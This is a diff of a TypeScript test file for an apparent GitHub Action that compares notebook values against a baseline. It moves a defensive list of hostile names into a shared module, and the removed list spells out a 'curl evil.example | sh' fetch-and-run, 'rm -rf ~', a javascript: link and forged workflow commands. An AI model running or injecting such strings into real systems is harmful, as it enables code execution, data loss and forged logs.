@@ -25,6 +25,7 @@ import {
   warningsOf
 } from './support/action.js'
 import { useAzurite } from './support/azurite.js'
+import { HOSTILE_NAMES } from './support/hostile.js'
 import { gluingNotebook } from './support/notebooks.js'
 import { summaryCharts } from './support/summary-shape.js'
 
@@ -123,10 +124,8 @@ const CHANGED: Glued = [
 ]
 
 describe('a pull request that changed one value', () => {
-  // Seen red against a step that did not compare (no `changes`: the comparison was never made),
-  // a summary without the section, a page rendered before the comparison was ready (the page
-  // had no "Compared with"), and `changes` written through JSON.stringify (the big integers
-  // became 18446744073709552000).
+  // Seen red against a step that gave collection no comparison to make (no `changes`), a summary
+  // without the section, and a page rendered without the comparison (no "Compared with" on it).
   it('shows the comparison in the summary, the outputs and the page', async () => {
     const runs = workflow()
     const nb = notebook()
@@ -172,7 +171,7 @@ describe('a pull request that changed one value', () => {
     )
   })
 
-  // Seen red against a series that took the baseline alone for a history (a chart of two points).
+  // Seen red against MIN_POINTS 2: the baseline alone taken for a history (a chart of two points).
   it('draws no chart when there is no history yet', async () => {
     const runs = workflow()
     const nb = notebook()
@@ -188,8 +187,8 @@ describe('a pull request that changed one value', () => {
 })
 
 describe('fail-on-change', () => {
-  // Seen red against a verdict made before the values were kept (the values artifact was not
-  // uploaded), one that did not fail (code 0), and one whose annotation named no numbers.
+  // Seen red against a gate that threw before the run's baseline was settled (its own
+  // annotation, no `baseline-found`, no values artifact) and one that did not fail (code 0).
   it('fails the step after the outputs, the summary and every upload, naming the value and both numbers', async () => {
     const runs = workflow()
     const nb = notebook()
@@ -234,7 +233,7 @@ describe('fail-on-change', () => {
   })
 
   // Seen red against a step of several runs that compared each run with the first entry's
-  // baseline (both runs had the same changes), and one whose `runs` had no `changes`.
+  // baseline, and one whose `runs` had no `changes`.
   it('with several notebooks: each entry of runs has its own changes; the changed run fails the step', async () => {
     const runs = workflow()
     const sales = notebook()
@@ -276,8 +275,7 @@ describe('fail-on-change', () => {
 })
 
 describe('tolerance', () => {
-  // Seen red against a step that compared without the rules (a, b were changed: the step failed
-  // on them too), and one that listed ignored values.
+  // Seen red against a step that compared without the rules (a and b changed, c listed).
   it('rtol, atol and ignore, as the input says, first match winning', async () => {
     const runs = workflow()
     const nb = notebook()
@@ -314,7 +312,7 @@ describe('tolerance', () => {
     )
   })
 
-  // Seen red against a reader that parsed tolerance after the lookup had started (GitHub was asked).
+  // Seen red against a reader that did not parse tolerance (the step ran and asked both servers).
   it('a tolerance that does not parse is refused before any request', async () => {
     const runs = workflow()
     const simBefore = sim.requests.length
@@ -334,26 +332,16 @@ describe('tolerance', () => {
 })
 
 describe('hostile names and values', () => {
-  const names = [
-    '</details>',
-    '```',
-    '%%{init: {"theme": "dark"}}%%',
-    'click x href "javascript:alert(1)"',
-    '@org/team',
-    '<!-- -->',
-    '![x](https://tracker.example/p.png)',
-    "$(curl evil.example | sh) `id` '; rm -rf ~",
-    '::add-mask::x\n::error::forged\r##[error]legacy'
-  ]
+  const names = HOSTILE_NAMES
   /** Every third value changes to a number, every third to a name, every third stays. */
   const changed = (i: number): string =>
     [String(i + 1), JSON.stringify(names[(i + 3) % names.length]), String(i)][i % 3] ?? ''
   const set = (value: (i: number) => string): Glued =>
     names.map((name, i) => [name, value(i)] as [string, string])
 
-  // Seen red against rows written without escaping (the summary's shape broke at `</details>`
-  // and the harness refused it), a chart title that kept the name (the shape rule refused the
-  // chart), and a page whose rows were not escaped (<img> in the page).
+  // Seen red against the summary's rows written without escaping, a chart title that kept the
+  // name (mermaid.ts drew no chart, its own shape check refusing it), and the page's rows
+  // written without escaping.
   it('stay inert in the summary, its charts, the annotation, the outputs and the page', async () => {
     const runs = workflow()
     const nb = notebook()
@@ -369,7 +357,7 @@ describe('hostile names and values', () => {
     // runAction has checked the summary's shape (HTML and the action's charts only) and that
     // nothing printed acts as a command the action did not mean.
     expect(result.code).toBe(1)
-    expect(result.outputs['changed-count']).toBe('6')
+    expect(result.outputs['changed-count']).toBe('7')
     const html = rendered(result.summary)
     expect(html).not.toMatch(/<img|<h1|<!--|href="javascript|tracker\.example\/p\.png"|<script/)
     expect(result.summary.match(/<\/details>/g)).toHaveLength(1)
@@ -392,8 +380,8 @@ describe('hostile names and values', () => {
 })
 
 describe('10,000 changed leaves', () => {
-  // Seen red against a summary table of every row (the summary past 1 MiB: the harness refused
-  // it), and a `changes` output written whole (over 1 MB).
+  // Seen red against a summary table without its limit of rows (it filled its byte budget
+  // instead of pointing to the output), and a `changes` output written whole (over 1 MB).
   it('keep the summary within its budget and shape, and the changes output within 1 MB', async () => {
     const runs = workflow()
     const nb = notebook()
